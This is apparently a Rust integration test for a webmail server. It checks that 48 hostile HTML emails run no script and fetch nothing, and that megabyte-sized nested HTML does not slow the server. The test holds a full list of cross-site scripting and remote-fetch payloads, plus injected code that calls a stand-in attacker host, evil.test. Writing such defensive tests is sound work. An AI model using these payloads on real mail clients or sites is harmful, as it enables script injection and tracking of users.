//! HTML mail that wants to run something, or to fetch something: it does neither.

use hikyaku_mission::browser::{Browser, Kind};
use hikyaku_mission::{House, PASSWORD};
use mailserver::Protocol;

/// What such mail tries. `R` is what would run, `U` what would be fetched.
const MAILS: [&str; 48] = [
    "<script>R</script>",
    "<script src=U></script>",
    "<SCRIPT\\x0a>R</SCRIPT>",
    "<img src=x onerror=R>",
    "<img src=U>",
    "<img srcset='U 1x, U 2x'>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=R/>'>",
    "<svg onload=R></svg>",
    "<svg><script>R</script></svg>",
    "<svg><image href=U /></svg>",
    "<svg><use href='U#x'></use></svg>",
    "<svg><animate onbegin=R attributeName=x dur=1s></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:R>x</maction></math>",
    "<body onload=R>x</body>",
    "<body background=U>x</body>",
    "<iframe src=javascript:R></iframe>",
    "<iframe srcdoc='<script>R</script>'></iframe>",
    "<iframe src=U></iframe>",
    "<object data=U></object>",
    "<embed src=U>",
    "<applet code=x archive=U></applet>",
    "<video poster=U><source src=U onerror=R></video>",
    "<audio src=U autoplay></audio>",
    "<link rel=stylesheet href=U>",
    "<link rel=prefetch href=U>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<style>@import 'U'; body{background:url(U)}</style>",
    "<div style='background:url(U)'>x</div>",
    "<div style='background-image:\\75rl(U)'>x</div>",
    "<div style='list-style:url(U)'>x</div>",
    "<div style='width:expression(R)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh'>x</div>",
    "<table background=U><tr><td background=U>x</td></tr></table>",
    "<meta http-equiv=refresh content='0;url=U'>",
    "<meta http-equiv=refresh content='0;url=javascript:R'>",
    "<base href=U><img src=x.png>",
    "<form action=U id=f><input name=a autofocus onfocus=R></form><script>f.submit()</script>",
    "<button form=f formaction=U>x</button>",
    "<input type=image src=U onerror=R>",
    "<a href=javascript:R id=a>x</a>",
    "<a href=' java\\tscript:R'>x</a>",
    "<a href=data:text/html,<script>R</script>>x</a>",
    "<details open ontoggle=R>x</details>",
    "<marquee onstart=R>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=R>'></noscript>",
    "<template><script>R</script></template><isindex onfocus=R>",
    "<textarea><title></textarea><img src=U onerror=R></title>",
    "<frameset onload=R><frame src=U></frameset>",
];

const RUNS: &str = "top.document.title='hacked';document.title='hacked';top.hacked=1;alert(1);fetch('https://evil.test/run')";

#[tokio::test(flavor = "multi_thread")]
async fn hostile_html_runs_nothing_and_fetches_nothing() {
    let house = House::new().await;
    let origin = format!("https://localhost:{}", house.at(Protocol::Https).port());
    for (number, mail) in MAILS.iter().enumerate() {
        let html = mail
            .replace('R', RUNS)
            .replace('U', &format!("https://evil.test/{number}"));
        let message = format!(
            "From: evil@evil.test\nSubject: =?utf-8?q?<script>top.hacked=3D1</script>?= {number}\nContent-Type: text/html\n\n\
             <p>mail {number}</p>{html}<p>end {number}</p>"
        );
        let said = house.deliver("bob", &message).await;
        assert!(said.contains("250 2.0.0 Delivered"), "{said}");
    }
    let browser = Browser::start(Kind::default()).await;
    browser.open(&format!("{origin}/")).await;
    browser.fill("#name", "bob@example.test").await;
    browser.fill("#password", PASSWORD).await;
    browser.press("Log in").await;
    browser.until("h1", "Inbox").await;
    for number in 0..MAILS.len() {
        browser
            .open(&format!("{origin}/message?id=INBOX%2F{}", number + 1))
            .await;
        browser.enter_frame().await;
        browser.until("body", &format!("mail {number}")).await;
        let links = browser.count("a[href^='http'],a[href^='mailto']").await;
        assert!(links <= 1);
        browser.leave_frame().await;
        assert_eq!(
            browser
                .run("return document.title === 'hacked' || !!window.hacked")
                .await,
            false,
            "{number}"
        );
        // By itself, without the frame around it, neither.
        browser
            .open(&format!("{origin}/message/frame?id=INBOX%2F{}", number + 1))
            .await;
        browser.until("body", &format!("mail {number}")).await;
    }
    browser.finish(&origin).await;
}

/// HTML that nests deeply, or wants to be slow in another way: a megabyte of each.
const SLOW: [&str; 6] = [
    "<ul><li>",
    "<table><tr><td>",
    "<p><font color=#c# size=#>",
    "<b><i><p></b></i><div><a><table></a>",
    "<style>.c#{color:red}</style><p class=c#>x",
    "<table>a<b>",
];

#[tokio::test(flavor = "multi_thread")]
async fn html_that_wants_to_be_slow_keeps_nobody_waiting() {
    let house = House::new().await;
    let origin = format!("https://localhost:{}", house.at(Protocol::Https).port());
    for again in SLOW {
        let (mut html, mut number) = (String::new(), 0);
        while html.len() < 1_000_000 {
            html += &again.replace('#', &number.to_string());
            html += "\n";
            number += 1;
        }
        let message = format!("Subject: slow\nContent-Type: text/html\n\n{html}the end");
        let said = house.deliver("bob", &message).await;
        assert!(said.contains("250 2.0.0 Delivered"), "{said}");
    }
    let browser = Browser::start(Kind::default()).await;
    browser.open(&format!("{origin}/")).await;
    browser.fill("#name", "bob@example.test").await;
    browser.fill("#password", PASSWORD).await;
    browser.press("Log in").await;
    browser.until("h1", "Inbox").await;
    for (number, again) in SLOW.iter().enumerate() {
        // Four of the frames at once, and what somebody else waits for meanwhile.
        let times = browser
            .run(&format!(
                "const frame = () => fetch('/message/frame?id=INBOX%2F{}').then((answer) => answer.text());\
                 const all = [frame(), frame(), frame(), frame()], began = performance.now();\
                 return fetch('/login').then(() => performance.now() - began)\
                 .then((waited) => Promise.all(all).then((texts) => [waited, performance.now() - began, Math.max(...texts.map((text) => text.length))]));",
                number + 1
            ))
            .await;
        let [waited, all, length] = [0, 1, 2].map(|at| times[at].as_f64().unwrap());
        assert!(waited < 2000.0, "{again}: {waited} ms");
        assert!(all < 8000.0, "{again}: {all} ms");
        assert!(length > 1000.0 && length < 8_000_000.0, "{again}: {length}");
    }
    browser.finish(&origin).await;
}
